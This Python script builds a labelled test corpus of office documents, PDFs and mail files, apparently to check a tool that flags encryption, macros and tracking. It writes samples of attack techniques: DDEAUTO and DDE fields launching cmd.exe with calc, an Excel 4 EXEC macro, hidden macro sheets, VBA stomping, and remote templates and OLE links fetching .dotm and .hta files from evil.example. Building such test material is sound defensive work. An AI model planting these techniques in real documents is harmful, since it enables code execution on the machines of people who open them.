#!/usr/bin/python3
"""Makes the corpus of documents and protected messages, and expected.tsv.

Needs LibreOffice (with python3-uno), qpdf, gpg and openssl. What no tool makes
is put together here, from the formats' specifications. Usage: make.py FOLDER;
the files of a run differ from those of another in keys, salts and dates.
"""
import base64, io, os, re, shutil, struct, subprocess, sys, tempfile, zipfile, zlib
import cfb

here = os.path.dirname(os.path.abspath(__file__))
out = os.path.abspath(sys.argv[1])
tmp = tempfile.mkdtemp()
expected = {}

ENC, MSG, MACRO, TRACK, BAD = "encrypted-document", "encrypted-message", "macro", "tracking", "unreadable"


def put(name, data, *causes):
    if data is not None:
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
    assert os.path.exists(os.path.join(out, name)), name
    expected[name] = ",".join(causes) or "-"


def get(name):
    with open(os.path.join(out, name), "rb") as f:
        return f.read()


def run(*args, **kw):
    return subprocess.run(args, check=True, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, **kw).stdout


# --- LibreOffice ---------------------------------------------------------------------------
flat = os.path.join(tmp, "linked-image.fodt")
with open(flat, "w") as f:
    f.write("""<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>Look: <draw:frame draw:name="p" text:anchor-type="as-char" svg:width="2cm" svg:height="2cm"><draw:image xlink:href="http://127.0.0.1:9/beacon.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text></office:body></office:document>
""")
run("/usr/bin/python3", os.path.join(here, "office.py"), out, tmp, flat)
for n in os.listdir(out):
    if n in ("dde-calc.xlsx", "section-link.doc", "section-link.docx", "linked-image.rtf"):
        os.remove(os.path.join(out, n))  # LibreOffice leaves out what matters
    elif n in ("export-user.pdf", "export-owner.pdf", "export-hybrid.pdf", "password-draw.odg", "plain-draw.odg", "basic-calc.xlsm"):
        put(n, None, *({"export-user.pdf": [ENC], "password-draw.odg": [ENC], "basic-calc.xlsm": [MACRO]}.get(n, [])))
    elif n.startswith("password-"):
        put(n, None, *([] if n.endswith(".ppt") else [ENC]))
    elif n.startswith("basic-") and n not in ("basic-empty.odt", "basic-writer.docx"):
        put(n, None, MACRO)
    elif n.startswith("dde-"):
        put(n, None, MACRO)
    elif n.startswith(("linked-image", "section-link")):
        put(n, None, TRACK)
    elif n.startswith(("plain-", "hyperlink-", "protected-", "basic-")):
        put(n, None)
os.remove(os.path.join(out, "password-impress.ppt"))  # LibreOffice cannot encrypt those: the file is plain
del expected["password-impress.ppt"]

# --- Office Open XML, edited -----------------------------------------------------------------
def edit(name, change, drop=()):
    """A package with entries changed, added (change: name -> bytes or function) or dropped."""
    src, buf = zipfile.ZipFile(io.BytesIO(get(name))), io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        done = set()
        for n in src.namelist():
            if n in drop:
                continue
            b = src.read(n)
            if n in change:
                b = change[n](b) if callable(change[n]) else change[n]
                done.add(n)
            z.writestr(n, b)
        for n, b in change.items():
            if n not in done:
                z.writestr(n, b)
    return buf.getvalue()


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS = "http://schemas.microsoft.com/office/2006/relationships/"


def rel(type, target, external=True, id="rIdX"):
    return lambda b: b.replace(b"</Relationships>", ('<Relationship Id="%s" Type="%s" Target="%s"%s/></Relationships>' %
                               (id, type, target, ' TargetMode="External"' if external else "")).encode())


def rels(*args):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '</Relationships>').encode().replace(b"</Relationships>", rel(*args)(b"</Relationships>"))


def ctype(part, type):
    return lambda b: b.replace(b"</Types>", ('<Override PartName="/%s" ContentType="%s"/></Types>' % (part, type)).encode())


def body(xml):
    return lambda b: re.sub(rb"(<w:body>)", lambda m: m.group(1) + xml.encode(), b, count=1)


def both(*fs):
    def f(b):
        for g in fs:
            b = g(b)
        return b
    return f


DOC_RELS, XL_RELS = "word/_rels/document.xml.rels", "xl/_rels/workbook.xml.rels"
VBA_TYPE = "application/vnd.ms-office.vbaProject"
CODE = "Sub AutoOpen()\r\n  MsgBox \"Hello\"\r\nEnd Sub\r\n"
code = cfb.write(cfb.project({"ThisDocument": "", "Module1": CODE}))
sheetcode = cfb.write(cfb.project({"ThisWorkbook": "Private Sub Workbook_Open()\r\n  Call Run\r\nEnd Sub\r\n", "Sheet1": ""}))
empty = cfb.write(cfb.project({"ThisDocument": "", "Module1": "Option Explicit\r\n\r\n' nothing here\r\n"}))
pcode = struct.pack("<HHH", 0xCAFE, 1, 3) + bytes(12 * 3) + bytes(80)
stomped = cfb.write(cfb.project({"ThisDocument": "", "Module1": ""}, cache=bytes(60) + pcode))


def with_vba(name, rels_part, part, project):
    folder = rels_part.split("/")[0]
    return edit(name, {part: project, rels_part: rel(MS + "vbaProject", part[len(folder) + 1:], False), "[Content_Types].xml": ctype(part, VBA_TYPE)})


put("vba.docm", with_vba("plain-writer.docx", DOC_RELS, "word/vbaProject.bin", code), MACRO)
put("vba.xlsm", with_vba("plain-calc.xlsx", XL_RELS, "xl/vbaProject.bin", sheetcode), MACRO)
put("vba.pptm", with_vba("plain-impress.pptx", "ppt/_rels/presentation.xml.rels", "ppt/vbaProject.bin", code), MACRO)
put("vba-renamed-file.docx", get("vba.docm"), MACRO)
put("vba-renamed-part.docm", with_vba("plain-writer.docx", DOC_RELS, "word/theme/settings7.dat", code), MACRO)
put("vba-empty.docm", with_vba("plain-writer.docx", DOC_RELS, "word/vbaProject.bin", empty))
put("vba-stomped.docm", with_vba("plain-writer.docx", DOC_RELS, "word/vbaProject.bin", stomped), MACRO)
put("vba-broken.docm", with_vba("plain-writer.docx", DOC_RELS, "word/vbaProject.bin", code[:700]), MACRO)
put("vba-stub.docm", edit("plain-writer.docx", {"word/vbaProject.bin": b"not a project"}), MACRO)

settings = lambda b: b
put("template-http.docx", edit("plain-writer.docx", {"word/_rels/settings.xml.rels": rels(OFFICE + "attachedTemplate", "https://evil.example/t.dotm", True, "rId1")}), TRACK)
put("template-unc.docx", edit("plain-writer.docx", {"word/_rels/settings.xml.rels": rels(OFFICE + "attachedTemplate", "\\\\198.51.100.7\\share\\t.dotm", True, "rId1")}), TRACK)
put("template-file-unc.docx", edit("plain-writer.docx", {"word/_rels/settings.xml.rels": rels(OFFICE + "attachedTemplate", "file://198.51.100.7/share/t.dotm", True, "rId1")}), TRACK)
put("template-utf16.docx", edit("plain-writer.docx", {"word/_rels/settings.xml.rels": b"\xff\xfe" + rels(OFFICE + "attachedTemplate", "https://evil.example/t.dotm", True, "rId1").decode().replace("UTF-8", "UTF-16").encode("utf-16-le")}), TRACK)
put("template-entities.docx", edit("plain-writer.docx", {"word/_rels/settings.xml.rels": rels(OFFICE + "attachedTemplate", "https://evil.example/t.dotm", True, "rId1").replace(b"External", b"&#69;xternal").replace(b"https", b"&#x68;ttps")}), TRACK)
put("template-strict.docx", edit("plain-writer.docx", {"word/_rels/settings.xml.rels": rels("http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate", "http://evil.example/t.dotm", True, "rId1")}), TRACK)
put("template-local.docx", edit("plain-writer.docx", {"word/_rels/settings.xml.rels": rels(OFFICE + "attachedTemplate", "file:///C:\\Users\\me\\Templates\\Letter.dotx", True, "rId1")}))
put("image-external.docx", edit("plain-writer.docx", {DOC_RELS: rel(OFFICE + "image", "https://beacon.example/i.png?id=1")}), TRACK)
put("image-header.docx", edit("plain-writer.docx", {"word/_rels/header1.xml.rels": rels(OFFICE + "image", "https://beacon.example/i.png?id=1")}), TRACK)
put("image-external.pptx", edit("plain-impress.pptx", {"ppt/slides/_rels/slide1.xml.rels": rel(OFFICE + "image", "http://beacon.example/i.png")}), TRACK)
put("image-external.xlsx", edit("plain-calc.xlsx", {"xl/drawings/_rels/drawing1.xml.rels": rels(OFFICE + "image", "http://beacon.example/i.png")}), TRACK)
put("image-local.docx", edit("plain-writer.docx", {DOC_RELS: rel(OFFICE + "image", "file:///C:/Users/me/Pictures/i.png")}))
put("ole-external.docx", edit("plain-writer.docx", {DOC_RELS: rel(OFFICE + "oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html")}), TRACK)
put("ole-local.docx", edit("plain-writer.docx", {DOC_RELS: rel(OFFICE + "oleObject", "file:///C:\\data\\table.xlsx!Sheet1")}))
put("frame.docx", edit("plain-writer.docx", {"word/_rels/webSettings.xml.rels": rels(OFFICE + "frame", "http://beacon.example/frame.htm")}), TRACK)
put("subdocument.docx", edit("plain-writer.docx", {DOC_RELS: rel(OFFICE + "subDocument", "\\\\server.example\\docs\\part.docx")}), TRACK)
put("altchunk-external.docx", edit("plain-writer.docx", {DOC_RELS: rel(OFFICE + "aFChunk", "https://beacon.example/chunk.html")}), TRACK)
put("altchunk-html.docx", edit("plain-writer.docx", {"word/afchunk1.htm": b"<html><body><img src='http://beacon.example/p.gif'></body></html>", DOC_RELS: rel(OFFICE + "aFChunk", "afchunk1.htm", False)}), TRACK)
put("altchunk-plain.docx", edit("plain-writer.docx", {"word/afchunk1.htm": b"<html><body><p>Hello <a href='http://example.com/'>there</a></p></body></html>", DOC_RELS: rel(OFFICE + "aFChunk", "afchunk1.htm", False)}))
put("hyperlinks.docx", edit("plain-writer.docx", {DOC_RELS: both(rel(OFFICE + "hyperlink", "https://example.com/"), rel(OFFICE + "hyperlink", "mailto:a@example.com", True, "rIdY"))}))
put("video.pptx", edit("plain-impress.pptx", {"ppt/slides/_rels/slide1.xml.rels": rel(OFFICE + "video", "https://video.example/v")}))
put("externallink.xlsx", edit("plain-calc.xlsx", {"xl/externalLinks/_rels/externalLink1.xml.rels": rels(OFFICE + "externalLinkPath", "https://intranet.example/book.xlsx")}))


def run_of(*parts):
    """Fields as runs: strings are instructions."""
    x = ""
    for p in parts:
        if p in ("begin", "separate", "end"):
            x += '<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % p
        elif p.startswith("="):
            x += "<w:r><w:t>%s</w:t></w:r>" % p[1:]
        else:
            x += '<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % p.replace("&", "&amp;").replace('"', "&quot;")
    return "<w:p>%s</w:p>" % x


def field(*parts):
    return edit("plain-writer.docx", {"word/document.xml": body(run_of(*parts))})


put("field-picture.docx", field("begin", " INCLUDE", 'PICTURE "http://beacon.exa', 'mple/p.png" \\d ', "separate", "=x", "end"), TRACK)
put("field-unc.docx", field("begin", ' INCLUDETEXT "\\\\\\\\server.example\\\\share\\\\t.docx" ', "separate", "=x", "end"), TRACK)
put("field-simple.docx", edit("plain-writer.docx", {"word/document.xml": body('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://beacon.example/p.png&quot; \\d"/></w:p>')}), TRACK)
put("field-local.docx", field("begin", ' INCLUDEPICTURE "C:\\\\pictures\\\\logo.png" ', "separate", "=x", "end"))
put("field-hyperlink.docx", field("begin", ' HYPERLINK "https://example.com/" ', "separate", "=example", "end", "begin", " PAGE ", "end", "begin", ' DATE \\@ "d.M.yyyy" ', "separate", "=1.1.2026", "end"))
put("field-ddeauto.docx", field("begin", " DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ", "separate", "=!", "end"), MACRO)
quote = "QUOTE " + " ".join(str(ord(c)) for c in "DDEAUTO c:\\cmd.exe x")
put("field-quote.docx", field("begin", " ", "begin", quote, "end", " ", "separate", "=!", "end"), MACRO)
put("field-talk.docx", edit("plain-writer.docx", {"word/document.xml": body('<w:p><w:r><w:t>Do not write DDEAUTO or INCLUDEPICTURE "http://x.example/" in instrText.</w:t></w:r></w:p>')}))

# Excel 4 macro sheets
MACROSHEET = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>'
put("xlm.xlsm", edit("plain-calc.xlsx", {"xl/macrosheets/sheet1.xml": MACROSHEET, XL_RELS: rel(MS + "xlMacrosheet", "macrosheets/sheet1.xml", False), "[Content_Types].xml": ctype("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")}), MACRO)
put("xlm-renamed.xlsx", edit("plain-calc.xlsx", {"xl/worksheets/sheet9.xml": MACROSHEET, XL_RELS: rel(MS + "xlIntlMacrosheet", "worksheets/sheet9.xml", False), "[Content_Types].xml": ctype("xl/worksheets/sheet9.xml", "application/vnd.ms-excel.intlmacrosheet+xml")}), MACRO)
DDE = b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
put("dde.xlsx", edit("plain-calc.xlsx", {"xl/externalLinks/externalLink1.xml": DDE, XL_RELS: rel(OFFICE + "externalLink", "externalLinks/externalLink1.xml", False)}), MACRO)


def wide(s):
    return struct.pack("<I", len(s)) + s.encode("utf-16-le")


def rec12(type, data=b""):
    t = bytes([type]) if type < 128 else bytes([type & 0x7F | 0x80, type >> 7])
    n, l = len(data), b""
    while True:
        l += bytes([n & 0x7F | (0x80 if n > 127 else 0)])
        n >>= 7
        if not n:
            return t + l + data


def xlsb(sheets, extra={}):
    """A binary workbook ([MS-XLSB]): sheets are (name, relationship type, part, content type, state)."""
    types = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
    r = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    book = rec12(131) + rec12(143)
    for i, (name, kind, part, ct, state) in enumerate(sheets):
        types += '<Override PartName="/xl/%s" ContentType="%s"/>' % (part, ct)
        r += '<Relationship Id="rId%d" Type="%s" Target="%s"/>' % (i + 1, kind, part)
        book += rec12(156, struct.pack("<II", state, i + 1) + wide("rId%d" % (i + 1)) + wide(name))
    book += rec12(144) + rec12(132)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", types + "</Types>")
        z.writestr("_rels/.rels", rels(OFFICE + "officeDocument", "xl/workbook.bin", False, "rId1"))
        z.writestr("xl/workbook.bin", book)
        z.writestr("xl/_rels/workbook.bin.rels", r + "</Relationships>")
        for _, _, part, _, _ in sheets:
            z.writestr("xl/" + part, rec12(129) + rec12(145) + rec12(146) + rec12(130))
        for n, b in extra.items():
            z.writestr(n, b)
    return buf.getvalue()


SHEET = ("Sheet1", OFFICE + "worksheet", "worksheets/sheet1.bin", "application/vnd.ms-excel.worksheet", 0)
put("plain.xlsb", xlsb([SHEET]))
put("xlm.xlsb", xlsb([SHEET, ("Macro1", MS + "xlMacrosheet", "macrosheets/sheet1.bin", "application/vnd.ms-excel.macrosheet", 2)]), MACRO)
put("vba.xlsb", xlsb([SHEET], {"xl/vbaProject.bin": sheetcode}), MACRO)
put("dde.xlsb", xlsb([SHEET], {"xl/externalLinks/externalLink1.bin": rec12(360, struct.pack("<H", 1) + wide("cmd") + wide("/c calc"))}), MACRO)

# Objects within documents
put("embedded-encrypted.docx", edit("plain-writer.docx", {"word/embeddings/sheet.xlsx": get("password-calc.xlsx")}), ENC)
put("embedded-macro.pptx", edit("plain-impress.pptx", {"ppt/embeddings/book.xlsm": get("vba.xlsm")}), MACRO)
put("embedded-plain.docx", edit("plain-writer.docx", {"word/embeddings/sheet.xlsx": get("plain-calc.xlsx")}))


def packaged(name, data):
    n = name.encode() + b"\0"
    b = struct.pack("<H", 2) + n + b"C:\\" + n + struct.pack("<HH", 0, 3) + struct.pack("<I", len(n) + 3) + b"C:\\" + n + struct.pack("<I", len(data)) + data
    return struct.pack("<I", len(b)) + b


put("package-macro.docx", edit("plain-writer.docx", {"word/embeddings/oleObject1.bin": cfb.write({"\x01Ole10Native": packaged("a.docm", get("vba.docm"))})}), MACRO)
put("package-text.docx", edit("plain-writer.docx", {"word/embeddings/oleObject1.bin": cfb.write({"\x01Ole10Native": packaged("a.txt", b"Just text.")})}))

# damaged packages
d = get("plain-writer.docx")
put("cut-off.docx", d[:len(d) * 2 // 3], BAD)
i = d.find(b"word/document.xml") + 30
put("broken-data.docx", d[:i + 60] + bytes(400) + d[i + 460:], BAD)

ARMOR = "-----BEGIN PGP MESSAGE-----\n\n" + base64.encodebytes(b"\xc3\x0d\x04\x09\x03\x08" + bytes(range(8)) + b"\xe0\xd2" + bytes([60, 1]) + bytes(59)).decode() + "-----END PGP MESSAGE-----\n"

# --- binary Office ---------------------------------------------------------------------------
def ole(name, change):
    t = cfb.read(get(name))
    t.update(change)
    return cfb.write(t)


def vba_storage(modules):
    return cfb.project(modules)


put("rewritten.doc", ole("plain-writer.doc", {}))
put("vba.doc", ole("plain-writer.doc", {"Macros": vba_storage({"ThisDocument": CODE})}), MACRO)
put("vba-empty.doc", ole("plain-writer.doc", {"Macros": vba_storage({"ThisDocument": ""})}))
put("vba.xls", ole("plain-calc.xls", {"_VBA_PROJECT_CUR": vba_storage({"ThisWorkbook": "Private Sub Workbook_Open()\r\nEnd Sub\r\n"})}), MACRO)
put("vba-empty.xls", ole("plain-calc.xls", {"_VBA_PROJECT_CUR": vba_storage({"ThisWorkbook": "", "Sheet1": ""})}))
put("vba-named.docx", get("vba.doc"), MACRO)


def biff(records):
    return b"".join(struct.pack("<HH", t, len(d)) + d for t, d in records)


def bof(kind):
    return (0x809, struct.pack("<HHHHII", 0x600, kind, 0xDBB, 0x7CC, 0, 6))


def sheet(name, kind, state=0):
    return (0x85, struct.pack("<IBBBB", 0, state, kind, len(name), 0) + name.encode())


EOFR = (0x0A, b"")
book = lambda *sheets: biff([bof(5)] + list(sheets) + [EOFR])
put("xlm.xls", cfb.write({"Workbook": book(sheet("Sheet1", 0), sheet("Macro1", 1)) + biff([bof(0x10), EOFR, bof(0x40), EOFR])}), MACRO)
put("xlm-very-hidden.xls", cfb.write({"Workbook": book(sheet("Sheet1", 0), sheet("Macro1", 1, 2)) + biff([bof(0x10), EOFR, bof(0x40), EOFR])}), MACRO)
put("xlm-disguised.xls", cfb.write({"Workbook": book(sheet("Sheet1", 0), sheet("Sheet2", 0)) + biff([bof(0x10), EOFR, bof(0x40), EOFR])}), MACRO)
bof5 = lambda kind: (0x809, struct.pack("<HHHH", 0x500, kind, 0xDBB, 0x7CC))
sheet5 = lambda name, kind: (0x85, struct.pack("<IBBB", 0, kind and 0, kind, len(name)) + name.encode())
put("xlm-book.xls", cfb.write({"Book": biff([bof5(5), sheet5("Sheet1", 0), sheet5("Macro1", 1), EOFR, bof5(0x10), EOFR, bof5(0x40), EOFR])}), MACRO)
put("plain-book.xls", cfb.write({"Book": biff([bof5(5), sheet5("Sheet1", 0), EOFR, bof5(0x10), EOFR])}))
put("xor-book.xls", cfb.write({"Book": biff([bof5(5), (0x2F, struct.pack("<HH", 0x1234, 0x5678)), sheet5("Sheet1", 0), EOFR])}), ENC)
put("xlm-biff4.xls", biff([(0x409, struct.pack("<HHH", 0, 0x40, 0)), EOFR]), MACRO)
put("plain-biff4.xls", biff([(0x409, struct.pack("<HHH", 0, 0x10, 0)), EOFR]))
put("xor.xls", cfb.write({"Workbook": biff([bof(5), (0x2F, struct.pack("<HHH", 0, 0xABCD, 0x1234)), sheet("Sheet1", 0), EOFR])}), ENC)
capi = struct.pack("<HHH", 1, 4, 2) + struct.pack("<II", 4, 32 + 4) + struct.pack("<IIIIIIII", 4, 0, 0x6801, 0x8004, 128, 1, 0, 0) + bytes(4)
capi += struct.pack("<I", 16) + bytes(range(16)) + bytes(range(16, 32)) + struct.pack("<I", 20) + bytes(range(20))
put("cryptoapi.xls", cfb.write({"Workbook": biff([bof(5), (0x2F, capi), sheet("Sheet1", 0), EOFR])}), ENC)
supbook = lambda s: (0x1AE, struct.pack("<HHB", 0, len(s), 0) + s.encode("latin-1"))
extern = lambda flags: (0x23, struct.pack("<HI", flags, 0) + b"\x01\x00A")
put("dde.xls", cfb.write({"Workbook": biff([bof(5), sheet("Sheet1", 0), supbook("cmd\x03/c calc"), extern(2), EOFR, bof(0x10), EOFR])}), MACRO)
put("external-book.xls", cfb.write({"Workbook": biff([bof(5), sheet("Sheet1", 0), supbook("\x01\x01C\x03other.xls"), extern(0), EOFR, bof(0x10), EOFR])}))


def fib(flags):
    t = cfb.read(get("plain-writer.doc"))
    w = bytearray(t["WordDocument"])
    w[0x0A:0x0C] = struct.pack("<H", struct.unpack_from("<H", w, 0x0A)[0] | flags)
    t["WordDocument"] = bytes(w)
    return cfb.write(t)


put("xor.doc", fib(0x8100), ENC)
put("cryptoapi.doc", fib(0x0100), ENC)


def replace_text(name, find, text):
    """A Word document with an instruction replaced by one of the same length, in either width of text."""
    t = cfb.read(get(name))
    w, text = t["WordDocument"], text.ljust(len(find))
    for enc in ("latin-1", "utf-16-le"):
        i = w.find(find.encode(enc))
        if i > 0:
            t["WordDocument"] = w[:i] + text.encode(enc) + w[i + len(find.encode(enc)):]
            return cfb.write(t)
    raise SystemExit("no field in " + name)


link = ' HYPERLINK "https://example.com/page"'
put("field-picture.doc", replace_text("hyperlink-writer.doc", link, ' INCLUDEPICTURE "http://b.example/p" '), TRACK)
put("field-dde.doc", replace_text("hyperlink-writer.doc", link, ' DDEAUTO c:\\\\cmd.exe "/k calc.exe"'), MACRO)


def associated(target):
    """A Word document whose SttbfAssoc names a template ([MS-DOC] §2.9.281)."""
    t = cfb.read(get("plain-writer.doc"))
    w = bytearray(t["WordDocument"])
    table = "1Table" if struct.unpack_from("<H", w, 0x0A)[0] & 0x200 else "0Table"
    strings = ["", target] + [""] * 16
    b = struct.pack("<HHH", 0xFFFF, len(strings), 0) + b"".join(struct.pack("<H", len(s)) + s.encode("utf-16-le") for s in strings)
    w[0x19A:0x1A2] = struct.pack("<II", len(t[table]), len(b))
    t[table] += b
    t["WordDocument"] = bytes(w)
    return cfb.write(t)


put("template-http.doc", associated("http://evil.example/t.dot"), TRACK)
put("template-local.doc", associated("C:\\Templates\\Normal.dot"))

URLMON = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
url = "http://evil.example/x.hta\0".encode("utf-16-le")
OLELINK = cfb.write({"\x01Ole": struct.pack("<IIII", 0x02000001, 9, 1, 0) + bytes(16) + URLMON + struct.pack("<I", len(url)) + url, "\x03ObjInfo": b"\0\0\3\0\4\0"})
t = cfb.read(get("plain-writer.doc"))
t["ObjectPool"] = {"_1234567890": cfb.read(OLELINK)}
put("ole-link.doc", cfb.write(t), TRACK)
t["ObjectPool"] = {"_1234567890": cfb.read(get("password-calc.xls"))}
put("embedded-encrypted.doc", cfb.write(t), ENC)
t["ObjectPool"] = {"_1234567890": cfb.read(get("plain-calc.xls"))}
put("embedded-plain.doc", cfb.write(t))

# presentations
t = cfb.read(get("plain-impress.ppt"))
p = t["PowerPoint Document"]
small = {k: t[k] for k in t if not isinstance(t[k], dict)}
project = code
z = zlib.compress(project)
atom = struct.pack("<HHI", 0x0010, 0x1011, len(z) + 4) + struct.pack("<I", len(project)) + z
# A small presentation: a document container and the user's edit are all there is.
head = struct.pack("<HHI", 0x0F, 0x03E8, 8 + 40) + struct.pack("<HHI", 1, 0x03E9, 40) + bytes(40)
edit_atom = lambda session: struct.pack("<HHI", 0, 0x0FF5, 28 + (4 if session else 0)) + bytes(28) + (struct.pack("<I", session) if session else b"")
user = lambda token, off: struct.pack("<HHI", 0, 0x0FF6, 24) + struct.pack("<IIIHHBBH", 20, token, off, 0, 0x3F4, 3, 0, 0)[:24].ljust(24, b"\0")


def ppt(records, token=0xE391C05F, session=0):
    return cfb.write({"PowerPoint Document": head + records + edit_atom(session), "Current User": user(token, len(head + records))})


put("small.ppt", ppt(b""))
put("vba.ppt", ppt(atom), MACRO)
put("encrypted.ppt", ppt(b"", 0xF3D1C4DF, 5), ENC)
put("encrypted-session.ppt", ppt(b"", 0xE391C05F, 5), ENC)
x = get("plain-calc.xls")
zx = zlib.compress(get("password-calc.xls"))
put("embedded-encrypted.ppt", ppt(struct.pack("<HHI", 0x0010, 0x1011, len(zx) + 4) + struct.pack("<I", 6656) + zx), ENC)

# mail in a compound file
def msg(name, data):
    return cfb.write({"__properties_version1.0": bytes(32), "__substg1.0_0037001F": "A subject".encode("utf-16-le"), "__substg1.0_1000001F": "Text".encode("utf-16-le"),
                      "__attach_version1.0_#00000000": {"__properties_version1.0": bytes(8), "__substg1.0_37010102": data, "__substg1.0_3707001F": name.encode("utf-16-le")}})


put("attachment-encrypted.msg", msg("a.docx", get("password-writer.docx")), ENC)
put("attachment-plain.msg", msg("a.docx", get("plain-writer.docx")))
inner = cfb.read(msg("a.xls", get("vba.xls")))
put("attachment-nested.msg", cfb.write({"__properties_version1.0": bytes(32), "__attach_version1.0_#00000000": {"__substg1.0_3701000D": inner}}), MACRO)

put("irm.docx", cfb.write({"EncryptedPackage": struct.pack("<Q", 100) + os.urandom(112), "\x06DataSpaces": {"Version": bytes(76), "DataSpaceMap": bytes(64), "TransformInfo": {"DRMEncryptedTransform": {"\x06Primary": bytes(200)}}}}), ENC)
put("irm.doc", cfb.write({"\x09DRMContent": os.urandom(5000), "WordDocument": cfb.read(get("plain-writer.doc"))["WordDocument"], "1Table": b"", "0Table": b""}), ENC)
put("extensible.xlsx", cfb.write({"EncryptedPackage": struct.pack("<Q", 100) + os.urandom(112), "EncryptionInfo": struct.pack("<HHI", 3, 3, 0x10) + b"<EncryptionData/>"}), ENC)
put("cut-off.doc", get("plain-writer.doc")[:1500], BAD)
w = get("plain-writer.doc")
put("half.doc", w[:len(w) // 2], BAD)
put("text-encrypted.msg", cfb.write({"__properties_version1.0": bytes(32), "__substg1.0_1000001F": ("Hello\r\n" + ARMOR).encode("utf-16-le")}), MSG)

# --- OpenDocument -----------------------------------------------------------------------------
put("script.ods", edit("plain-calc.ods", {"Scripts/python/run.py": b"def run(*a):\n    pass\n"}), MACRO)
whole = io.BytesIO()
with zipfile.ZipFile(whole, "w") as z:
    z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
    z.writestr("encrypted-package", os.urandom(300))
    z.writestr("META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.4"><manifest:file-entry manifest:full-path="encrypted-package" manifest:media-type="application/vnd.oasis.opendocument.text" manifest:size="200"><manifest:encryption-data><manifest:algorithm manifest:algorithm-name="http://www.w3.org/2009/xmlenc11#aes256-gcm" manifest:initialisation-vector="AAAA"/></manifest:encryption-data></manifest:file-entry></manifest:manifest>')
put("whole-package.odt", whole.getvalue(), ENC)
put("embedded-encrypted.odt", edit("plain-writer.odt", {"Object 1": get("password-calc.xls")}), ENC)
put("relative-image.odt", edit("plain-writer.odt", {"content.xml": lambda b: b.replace(b"</office:text>", b'<text:p><draw:frame><draw:image xlink:href="../logo.png" xlink:type="simple"/></draw:frame></text:p></office:text>')}))

# --- PDF --------------------------------------------------------------------------------------
plain = os.path.join(out, "plain-writer.pdf")


def qpdf(name, *args, causes=()):
    run("qpdf", *args, plain, os.path.join(out, name))
    put(name, None, *causes)


for label, args in {"rc4-40": ["40"], "rc4-128": ["128", "--use-aes=n"], "aes-128": ["128", "--use-aes=y"], "aes-256": ["256"], "aes-256-r5": ["256", "--force-R5"], "v4-rc4": ["128", "--force-V4"], "cleartext": ["128", "--use-aes=y", "--cleartext-metadata"]}.items():
    weak = ["--allow-weak-crypto"] if "256" not in args or "--force-R5" in args else []
    for who, user, causes in (("user", "secret", [ENC]), ("owner", "", [])):
        # qpdf gives a file without an owner password for 256 bits only when told that it is meant.
        qpdf("%s-%s.pdf" % (label, who), *weak, "--encrypt", user, "owner", *args, "--", causes=causes)
qpdf("objstm-user.pdf", "--object-streams=generate", "--encrypt", "secret", "owner", "256", "--", causes=[ENC])
qpdf("objstm-owner.pdf", "--object-streams=generate", "--encrypt", "", "owner", "256", "--")
qpdf("objstm.pdf", "--object-streams=generate")
qpdf("linearized.pdf", "--linearize")
qpdf("linearized-user.pdf", "--linearize", "--encrypt", "secret", "owner", "256", "--", causes=[ENC])
for label, file, causes in (("docm", "vba.docm", [MACRO]), ("docx", "plain-writer.docx", []), ("encrypted", "password-calc.xlsx", [ENC])):
    qpdf("attachment-%s.pdf" % label, "--add-attachment", os.path.join(out, file), "--", causes=causes)
run("qpdf", "--encrypt", "", "owner", "256", "--", os.path.join(out, "attachment-docm.pdf"), os.path.join(out, "attachment-owner.pdf"))
put("attachment-owner.pdf", None, MACRO)
p = get("plain-writer.pdf")
put("junk-around.pdf", b"\r\njunk before\r\n" + p + b"\n<html>junk behind</html>\n" * 20)
put("broken-xref.pdf", p.replace(b"startxref", b"startxreX"))
put("wrong-xref.pdf", re.sub(rb"startxref\s+\d+", b"startxref\n12345", p))
u = get("aes-256-user.pdf")
put("broken-xref-user.pdf", re.sub(rb"startxref\s+\d+", b"startxref\n1", u), ENC)
put("no-end.pdf", p[:-30])
